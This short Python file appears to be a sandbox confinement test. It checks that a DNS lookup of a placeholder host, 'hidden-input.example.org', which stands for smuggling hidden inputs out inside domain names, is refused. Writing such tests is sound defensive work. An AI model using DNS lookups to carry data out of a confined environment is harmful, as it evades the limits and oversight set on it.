"""A name looked up: the resolver talks to a server of its choice.

Tries: to send hidden inputs out inside of names
Must: refused
Unconfined: not tried, there may be no network
"""

import socket


def attempt():
    try:
        return socket.getaddrinfo("hidden-input.example.org", 80)
    except socket.gaierror as error:
        raise OSError(str(error)) from None
